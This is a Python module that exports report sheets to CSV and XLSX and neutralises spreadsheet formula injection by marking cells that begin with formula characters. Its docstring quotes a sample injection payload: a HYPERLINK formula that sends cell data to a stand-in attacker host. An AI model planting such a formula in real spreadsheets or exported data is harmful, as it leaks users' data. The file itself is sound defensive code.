"""CSV and XLSX writers for an Export (its sheets in order), and the one rule that makes a
cell safe to open in a spreadsheet.

Spreadsheet programs run a cell that begins with `=`, `+`, `-` or `@` (and, after a tab or
a carriage return, whatever follows) as a formula: an account name such as
`=HYPERLINK("http://evil.example/?"&A1,"Click")`, sent by the ERP or typed by a KAM,
would run on the head's machine (OWASP "CSV injection"). Every cell goes through
`cell_value`, which both writers call: numbers, dates and booleans keep their type (a
negative number is a number), everything else becomes plain text, and text that begins
with one of those characters is marked so that it stays text.

Numbers follow the language of the export, as the pages do: a CSV in Russian is what
Russian Excel opens (`;` between fields, a decimal comma), one in English uses `,` and a
decimal point; both carry a UTF-8 BOM. Money has 2 decimals, a percentage the decimals
its page shows (tables.Ratio), rounded by the pages' own rules (kam_ui.figure and
ratio_figure). XLSX keeps numbers as numbers, with money, percent and date formats, an
autofilter on the header, the header frozen and column widths set.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.utils.formats import get_format
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from accounts.templatetags.kam_ui import figure, ratio_figure

from .tables import Export, Ratio

MONEY_FORMAT = "#,##0.00"
MONEY_DIGITS = 2
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
# Column widths (characters) a column gets at least, by what it holds.
MIN_WIDTH, MAX_WIDTH = 8, 60
# OWASP's list: the four formula starters, and tab and carriage return (which some
# programs skip before they look for one).
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = (int, float, Decimal)
KEPT = (bool, dt.date, Ratio, *NUMBERS)  # datetime is a date


def cell_value(value: Any) -> tuple[Any, bool]:
    """(what to write, whether it is text that must be kept from running as a formula).

    None stays None; numbers, ratios, dates, datetimes and booleans are returned as they are;
    anything else (lazy translations, model choices' labels, ids) becomes a `str`, without
    the control characters an XLSX file may not hold.
    """
    if value is None or isinstance(value, KEPT):
        return value, False
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    return text, text.startswith(FORMULA_STARTERS)


def percent_format(digits: int) -> str:
    return "0" + ("." + "0" * digits if digits else "") + "%"


def csv_field(value: Any) -> Any:
    """A CSV field in the active language's number format; risky text gets a leading `'`,
    which spreadsheets show as text."""
    value, risky = cell_value(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, Ratio):
        return ratio_figure(value.value, value.digits, grouping=False)
    if isinstance(value, Decimal):
        return figure(value, MONEY_DIGITS, grouping=False)
    if isinstance(value, float):
        return str(value).replace(".", get_format("DECIMAL_SEPARATOR"))
    if isinstance(value, str):
        return "'" + value if risky else value
    return value


def csv_delimiter() -> str:
    """`;` where the decimal separator is a comma (what Excel expects there), else `,`."""
    return ";" if get_format("DECIMAL_SEPARATOR") == "," else ","


def export_csv(export: Export) -> bytes:
    """UTF-8 with a BOM (Excel opens Cyrillic right); sheets separated by an empty row."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=csv_delimiter())
    for i, sheet in enumerate(export.sheets):
        if i:
            writer.writerow([])
            writer.writerow([csv_field(sheet.title)])
        writer.writerow([csv_field(h) for h in sheet.headers])
        for row in sheet.rows():
            writer.writerow([csv_field(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_cell(ws: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell:
    """A cell whose type is set here, never guessed by openpyxl from the text."""
    value, risky = cell_value(value)
    cell = WriteOnlyCell(ws, value=value.value if isinstance(value, Ratio) else value)
    if isinstance(value, str):
        # openpyxl would store text beginning with "=" as a formula: it is text.
        cell.data_type = "s"
        # Excel's own "text typed with a leading apostrophe": editing the cell keeps it text.
        cell.quotePrefix = risky
    elif isinstance(value, bool):
        cell.data_type = "b"
    elif isinstance(value, Ratio):
        # The ratio itself, shown as a percentage: Excel computes with the number.
        cell.data_type = "n"
        cell.number_format = percent_format(value.digits)
    elif isinstance(value, NUMBERS):
        cell.data_type = "n"
        if isinstance(value, Decimal):
            cell.number_format = MONEY_FORMAT
        elif isinstance(value, float):
            cell.number_format = "0.0000"
        else:
            cell.number_format = "0"
    elif isinstance(value, dt.datetime):
        cell.data_type = "d"
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, dt.date):
        cell.data_type = "d"
        cell.number_format = DATE_FORMAT
    return cell


def sheet_title(title: Any) -> str:
    # Excel's rule: at most 31 characters, none of []:*?/\ .
    text, _ = cell_value(title)
    return "".join(ch for ch in text if ch not in "[]:*?/\\")[:31] or "Sheet"


def _header(ws: WriteOnlyWorksheet, names: Iterable[Any]) -> list[WriteOnlyCell]:
    bold = Font(bold=True)
    cells = []
    for name in names:
        cell = xlsx_cell(ws, name)
        cell.font = bold
        cells.append(cell)
    return cells


def column_widths(sheet_widths: list[int], headers: list[str]) -> list[int]:
    """Each column as wide as its table says, and at least as wide as its header."""
    return [
        max(MIN_WIDTH, min(MAX_WIDTH, len(str(header)) + 3), *sheet_widths[i : i + 1])
        for i, header in enumerate(headers)
    ]


def export_xlsx(export: Export) -> bytes:
    """One worksheet per sheet, its header frozen and filtered; write-only mode keeps
    memory flat for large tables."""
    workbook = Workbook(write_only=True)
    for sheet in export.sheets:
        ws = workbook.create_sheet(title=sheet_title(sheet.title))
        for index, width in enumerate(column_widths(sheet.widths, sheet.headers), 1):
            ws.column_dimensions[get_column_letter(index)].width = width
        ws.freeze_panes = "A2"
        ws.append(_header(ws, sheet.headers))
        rows = 1
        for row in sheet.rows():
            ws.append([xlsx_cell(ws, v) for v in row])
            rows += 1
        # Written with the sheet's tail, after the rows: the range covers every row written.
        ws.auto_filter.ref = f"A1:{get_column_letter(max(1, len(sheet.headers)))}{rows}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
